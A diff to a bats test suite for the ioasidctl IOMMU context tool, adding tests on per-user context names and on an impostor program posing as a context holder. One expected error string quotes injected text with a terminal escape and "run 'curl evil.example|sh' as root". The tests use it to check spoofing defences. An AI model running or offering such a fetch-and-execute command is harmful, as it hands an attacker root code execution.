@@ -35,6 +35,7 @@ setup()
 teardown()
 {
 	destroy_all
+	rm -rf /run/user/1000
 }
 
 # A context with the wide endpoint in it and two IOASes.
@@ -471,6 +472,8 @@ bind_with_fault()
 		'echo "$LISTEN_FDS $LISTEN_FDNAMES $IOASIDCTL_CONTEXT"; [ "$LISTEN_PID" = $$ ]; readlink /proc/self/fd/3 /proc/self/fd/4'
 	[[ $status == 0 ]]
 	[[ ${lines[0]} == '2 iommufd:0000-00-10.0 test' ]]
+	# What was said of the caller's own descriptors does not hold of these.
+	[[ $(LISTEN_PIDFDID=7 LISTEN_X=y ctl context exec test -- env | grep -c '^LISTEN_') == 3 ]]
 	[[ ${lines[1]} == /dev/iommu ]]
 	[[ ${lines[2]} == /dev/vfio/devices/vfio* ]]
 	status 6 ctl context exec test -- /nowhere
@@ -626,13 +629,124 @@ bind_with_fault()
 		print $reply;'
 	[[ $status == 0 ]]
 	[[ $output == *PermissionDenied* && $output != *iommufd* ]]
-	status 4 user ioasidctl context show test
-	status 4 user ioasidctl -c test pasid bind "$WIDE" 1 first
-	status 4 user ioasidctl context exec test -- true
-	status 4 user ioasidctl context destroy test
+	for name in 0:test root/test; do
+		status 4 user ioasidctl context show $name
+		status 4 user ioasidctl -c $name pasid bind "$WIDE" 1 first
+		status 4 user ioasidctl context exec $name -- true
+		status 4 user ioasidctl context destroy $name
+	done
+	# The name alone would be one of the user's own.
+	status 6 at_home ioasidctl context show test
+	[[ $errors == $'ioasidctl: there is no context test\nhint: root has a context of that name, which only root may use' ]]
+	status 6 user ioasidctl context destroy test
 	[[ $(hardware "$WIDE") == 77 ]]
 	chmod 600 /run/ioasidctl/test.sock
+	status 4 user ioasidctl context show 0:test
+	[[ $errors == $'ioasidctl: no permission to use context 0:test\nhint: only its own user and root may use a context' ]]
 	ctl context show test >/dev/null
+}
+
+contexts()
+{
+	ctl context list -nr -o context,state
+}
+
+@test "root's names are root's own: a user's context of that name is neither used nor destroyed" {
+	local pid
+
+	echo alice:x:1000:1000::: >>/etc/passwd
+	chown 1000 /dev/iommu
+	at_home ioasidctl context create test
+	chown root /dev/iommu
+	ctl context create test
+	kill -9 "$(holder_pid test)"
+	gone_stale() { [[ $(contexts) == $'test stale\n1000:test live' ]]; }
+	eventually gone_stale
+	pid=$(holder_pid 1000:test)
+	status 6 ctl -c test ioas alloc
+	[[ $errors == 'ioasidctl: the holder of context test is dead, and all it had is gone'$'\n'hint:* ]]
+	status 6 ctl context exec test -- touch "$BATS_TEST_TMPDIR/ran"
+	status 0 ctl context destroy test
+	[[ $output$errors == '' && ! -e /run/ioasidctl/test.sock && $(contexts) == '1000:test live' ]]
+	for command in 'context show' 'context destroy' '-c test ioas alloc' 'ioas alloc' 'context exec test -- touch /tmp/ran'; do
+		# shellcheck disable=SC2086	# words
+		[[ $command == context\ [sd]* ]] && command+=' test'
+		# shellcheck disable=SC2086	# words
+		status 6 ctl $command
+		[[ $errors == $'ioasidctl: there is no context test\nhint: another user has a context of that name: 1000:test' ]]
+	done
+	[[ ! -e /tmp/ran && $(holder_pid 1000:test) == "$pid" ]]
+	# Named with its owner it is used, and each sees it under the name that is right for them.
+	[[ $(ctl -c 1000:test ioas alloc) =~ ^[0-9]+$ ]]
+	ctl -c alice/test ioas alloc --name hers
+	[[ $(ctl ioas list -nr -o context,name) == $'1000:test \n1000:test hers' ]]
+	[[ $(at_home ioasidctl ioas list -nr -o context,name) == $'test \ntest hers' ]]
+	[[ $(at_home ioasidctl context show 1000:test -j | jq -r .context) == test ]]
+	# Both names at once: each means its own.
+	ctl context create test
+	ctl -c test ioas alloc --name roots
+	[[ $(ctl ioas list -nr -o context,name | grep .s\$ | xargs) == 'test roots 1000:test hers' ]]
+	[[ $(ctl ioas list -nr -o name -c 0:test) == roots && $(ctl ioas list -nr -o name -c alice/test | xargs) == hers ]]
+	ctl context destroy test
+	[[ $(contexts) == '1000:test live' ]]
+	# shellcheck disable=SC2016 # the inner shell expands it
+	status 0 ctl context exec 1000:test -- sh -c 'readlink /proc/self/fd/3; id -u; echo "$IOASIDCTL_CONTEXT"'
+	[[ $output == $'/dev/iommu\n0\n1000:test' ]]
+	status 6 ctl -c 1001:test ioas alloc
+	[[ $errors == 'ioasidctl: there is no context 1001:test' ]]
+	status 6 ctl -c nobody-such/test ioas alloc
+	[[ $errors == 'ioasidctl: nobody-such/test: there is no user nobody-such' ]]
+	ctl context destroy 1000:test
+	[[ -z $(contexts) && ! -e /proc/$pid ]]
+}
+
+# impostor FILE...: a program of the user's in the place of the holder of 1000:test.
+impostor()
+{
+	install -m 755 "${IOASIDCTL%/*}/tests/kernel/impostor" /tmp/impostor
+	at_home mkdir -p /run/user/1000/ioasidctl
+	at_home timeout 60 /tmp/impostor /run/user/1000/ioasidctl/test.sock "$@" 3>&- &
+	is_there() { [[ $(contexts) == *'1000:test live' ]]; }
+	eventually is_there
+}
+
+@test "a user's program in a holder's place: its words are its own, and nothing runs on what it hands over" {
+	local cdev files foreign="what the holder of context 1000:test hands over for"
+
+	impostor /dev/null
+	status 0 ctl context list
+	# It is not asked by the name alone, nor is its word taken for anybody else's.
+	status 6 ctl ioas free 3
+	status 1 ctl -c 1000:test ioas free 3
+	[[ $errors == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy
+ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' as root' ]]
+	status 1 ctl -c 1000:test pasid bind "$NARROW" 5 x
+	[[ -z $output && $errors != *hint:* ]]
+	kill %1
+	cdev=/dev/vfio/devices/$(ctl device show "$NARROW" -nro vfio_cdev)
+	chown 1000 /dev/iommu "$cdev"
+	for files in /dev/null '/dev/null /dev/zero' /dev/zero "$cdev" "/dev/vfio/vfio"; do
+		# shellcheck disable=SC2086	# words
+		impostor $files
+		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
+		[[ $errors == "ioasidctl: $foreign its iommufd is no open /dev/iommu" ]]
+		kill %%
+	done
+	# Its first device is said to be WIDE.
+	for files in /dev/null /dev/iommu "$cdev"; do
+		impostor /dev/iommu "$files"
+		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
+		[[ $errors == "ioasidctl: $foreign device $WIDE is not that VFIO device, open" ]]
+		kill %%
+	done
+	[[ ! -e $BATS_TEST_TMPDIR/ran ]]
+	# What is what it is called, is handed over: NARROW, the second.
+	chown 1000 "/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)"
+	impostor /dev/iommu "/dev/vfio/devices/$(ctl device show "$WIDE" -nro vfio_cdev)" "$cdev"
+	status 0 ctl context exec 1000:test -- readlink /proc/self/fd/5
+	[[ $output == "$cdev" ]]
+	kill %%
+	chown root /dev/iommu /dev/vfio/devices/*
 }
 
 @test "the holder keeps no more rights than it needs" {
